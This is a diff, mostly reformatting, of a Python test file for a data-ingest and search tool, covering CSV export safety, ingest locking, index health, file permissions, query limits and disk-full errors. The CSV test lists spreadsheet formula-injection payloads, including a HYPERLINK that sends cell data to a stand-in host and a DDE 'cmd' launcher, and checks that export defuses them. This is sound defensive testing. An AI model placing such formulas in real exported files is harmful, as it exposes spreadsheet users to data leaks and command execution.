@@ -18,10 +18,17 @@ from core.workspace import Workspace
 REPO = Path(__file__).resolve().parent.parent
 
 
-def _cli(*args: str, env: dict[str, str] | None = None,
-         timeout: float = 300) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "main.py", *args], cwd=REPO, capture_output=True,
-                          text=True, env={**os.environ, **(env or {})}, timeout=timeout)
+def _cli(
+    *args: str, env: dict[str, str] | None = None, timeout: float = 300
+) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "main.py", *args],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        env={**os.environ, **(env or {})},
+        timeout=timeout,
+    )
 
 
 # -- item 8: CSV formula injection -----------------------------------------------------------
@@ -29,16 +36,24 @@ def test_graph_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
     from graph.export import export_graph
     from graph.model import GraphEdge, GraphNode, GraphResult
 
-    evil = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|x",
-            "@SUM(1+1)", "\t=1+1", "＝1+1"]
-    nodes = {f"n{i}": GraphNode(f"n{i}", "person", text, aliases=(text,))
-             for i, text in enumerate(evil)}
+    evil = [
+        '=HYPERLINK("http://evil/?"&A1,"x")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|x",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "＝1+1",
+    ]
+    nodes = {
+        f"n{i}": GraphNode(f"n{i}", "person", text, aliases=(text,)) for i, text in enumerate(evil)
+    }
     nodes["=cmd"] = GraphNode("=cmd", "@type", "ok")
     edges = [GraphEdge("=cmd", "n1", "-called", count=1, record_uids=["=1+2"])]
     graph = GraphResult(nodes=nodes, edges=edges)
     written = export_graph(graph, tmp_path / "g.csv")
-    cells = [c for path in written for row in csv.reader(path.open(encoding="utf-8-sig"))
-             for c in row]
+    cells = [
+        c for path in written for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row
+    ]
     assert all(not c.startswith(("=", "+", "-", "@", "\t", "＝")) for c in cells), cells
     labels = [row[1] for row in csv.reader(written[0].open(encoding="utf-8-sig"))][1:]
     assert labels[:-1] == ["'" + t for t in evil]  # shown as the text it was, never run
@@ -47,8 +62,14 @@ def test_graph_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
 def test_numbers_stay_numbers() -> None:
     from core.csvsafe import neutralise
 
-    assert [neutralise(v) for v in ("-3.5", "+86", "1e-3", 7, None, "plain")] == \
-        ["-3.5", "+86", "1e-3", 7, None, "plain"]
+    assert [neutralise(v) for v in ("-3.5", "+86", "1e-3", 7, None, "plain")] == [
+        "-3.5",
+        "+86",
+        "1e-3",
+        7,
+        None,
+        "plain",
+    ]
     assert neutralise("-3.5+A1") == "'-3.5+A1"
 
 
@@ -69,10 +90,26 @@ def test_two_ingests_at_once_lose_nothing_from_the_index(tmp_path: Path) -> None
     jobs = []
     for source in ("hotel", "population"):
         files = _generate(tmp_path, source, 4000)
-        jobs.append(subprocess.Popen(
-            [sys.executable, "main.py", "ingest", "-w", root, "-s", source,
-             *map(str, files), "--batch-size", "500"],
-            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True))
+        jobs.append(
+            subprocess.Popen(
+                [
+                    sys.executable,
+                    "main.py",
+                    "ingest",
+                    "-w",
+                    root,
+                    "-s",
+                    source,
+                    *map(str, files),
+                    "--batch-size",
+                    "500",
+                ],
+                cwd=REPO,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+        )
     for job in jobs:
         _out, err = job.communicate(timeout=600)
         assert job.returncode == 0, err
@@ -82,23 +119,27 @@ def test_two_ingests_at_once_lose_nothing_from_the_index(tmp_path: Path) -> None
     assert data["status"] == "green", data
 
 
-def test_a_second_ingest_is_refused_while_one_holds_the_workspace(workspace: Workspace,
-                                                                  tmp_path: Path) -> None:
+def test_a_second_ingest_is_refused_while_one_holds_the_workspace(
+    workspace: Workspace, tmp_path: Path
+) -> None:
     from core.ingest import IngestBusyError, Ingestor, workspace_write_lock
     from plugins.registry import discover
 
     files = _generate(tmp_path, "hotel", 50)
     plugin = discover([]).get("hotel")
-    with workspace_write_lock(workspace, "a long ingest"), \
-            pytest.raises(IngestBusyError, match=r"another ingest or reindex is running \(pid"):
+    with (
+        workspace_write_lock(workspace, "a long ingest"),
+        pytest.raises(IngestBusyError, match=r"another ingest or reindex is running \(pid"),
+    ):
         Ingestor(workspace, lock_wait=0.5).ingest_file(plugin, files[0])
     assert workspace.store.count() == 0
     report = Ingestor(workspace, lock_wait=0.5).ingest_file(plugin, files[0])
     assert report.status == "done" and workspace.store.count() == 50
 
 
-def test_health_turns_red_when_the_index_lost_its_meta_file(workspace: Workspace,
-                                                            tmp_path: Path) -> None:
+def test_health_turns_red_when_the_index_lost_its_meta_file(
+    workspace: Workspace, tmp_path: Path
+) -> None:
     from core.ingest import Ingestor
     from plugins.registry import discover
     from search.backend import open_backend
@@ -125,8 +166,7 @@ def test_health_turns_red_when_the_index_lost_its_meta_file(workspace: Workspace
     again.close()
 
 
-def test_health_is_yellow_for_a_few_missing_records(workspace: Workspace,
-                                                    tmp_path: Path) -> None:
+def test_health_is_yellow_for_a_few_missing_records(workspace: Workspace, tmp_path: Path) -> None:
     from core.ingest import Ingestor
     from plugins.registry import discover
     from search.backend import open_backend
@@ -162,8 +202,12 @@ def test_workspace_files_are_private(tmp_path: Path) -> None:
 def test_an_old_world_readable_config_is_made_private_on_open(tmp_path: Path) -> None:
     ws = Workspace.init(tmp_path / "ws")
     config = ws.root / "superbrain.toml"
-    for path, mode in ((config, 0o644), (ws.store_path, 0o644), (ws.faces_dir, 0o755),
-                       (ws.root, 0o755)):
+    for path, mode in (
+        (config, 0o644),
+        (ws.store_path, 0o644),
+        (ws.faces_dir, 0o755),
+        (ws.root, 0o755),
+    ):
         os.chmod(path, mode)
     Workspace.open(ws.root)
     assert stat.S_IMODE(config.stat().st_mode) == 0o600
@@ -173,15 +217,19 @@ def test_an_old_world_readable_config_is_made_private_on_open(tmp_path: Path) ->
 
 
 # -- item 15: unbounded queries --------------------------------------------------------------
-@pytest.mark.parametrize("query", [
-    "a" * 10_000,                                     # size
-    "*a*" * 3333,                                     # the issue's wildcard query
-    " ".join(f"*{c}*" for c in "abcdefghij"),         # too many wildcard terms
-    "*a*b*c*d*e*",                                    # one term with too many wildcards
-    " OR ".join(f"w{i}" for i in range(300)),         # too many clauses
-])
-def test_oversized_queries_are_refused_quickly_with_a_clear_message(workspace: Workspace,
-                                                                    query: str) -> None:
+@pytest.mark.parametrize(
+    "query",
+    [
+        "a" * 10_000,  # size
+        "*a*" * 3333,  # the issue's wildcard query
+        " ".join(f"*{c}*" for c in "abcdefghij"),  # too many wildcard terms
+        "*a*b*c*d*e*",  # one term with too many wildcards
+        " OR ".join(f"w{i}" for i in range(300)),  # too many clauses
+    ],
+)
+def test_oversized_queries_are_refused_quickly_with_a_clear_message(
+    workspace: Workspace, query: str
+) -> None:
     import time
 
     from search.backend import open_backend
@@ -212,8 +260,9 @@ def test_damaged_store_gives_one_line_with_a_recovery_hint(workspace: Workspace)
     assert "store.sqlite" in text and "restore it from a backup" in text
 
 
-def test_full_disk_during_ingest_gives_a_clear_error(workspace: Workspace, tmp_path: Path,
-                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+def test_full_disk_during_ingest_gives_a_clear_error(
+    workspace: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Below the free-space floor an ingest is refused before it writes anything."""
     from core import audit
     from core.audit import AuditError
@@ -235,8 +284,7 @@ def test_storage_problem_messages() -> None:
 
     full = storage_problem(Path("/ws/search"), OSError(errno.ENOSPC, "No space left on device"))
     assert "disk is full" in full and "/ws/search" in full
-    bad = storage_problem(Path("/ws/store.sqlite"),
-                          sqlite3.DatabaseError("file is not a database"))
+    bad = storage_problem(Path("/ws/store.sqlite"), sqlite3.DatabaseError("file is not a database"))
     assert "restore it from a backup" in bad
 
 
@@ -245,8 +293,11 @@ def test_a_full_disk_under_the_search_index_is_a_clear_error(tmp_path: Path) -> 
     store, marks the index stale with the reason, and no traceback reaches the user."""
     ws = Workspace.init(tmp_path / "ws")
     mnt = ws.search_dir
-    made = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=192k", "tmpfs", str(mnt)],
-                          capture_output=True, text=True)
+    made = subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", "size=192k", "tmpfs", str(mnt)],
+        capture_output=True,
+        text=True,
+    )
     if made.returncode != 0:
         pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {made.stderr.strip()}")
     try:
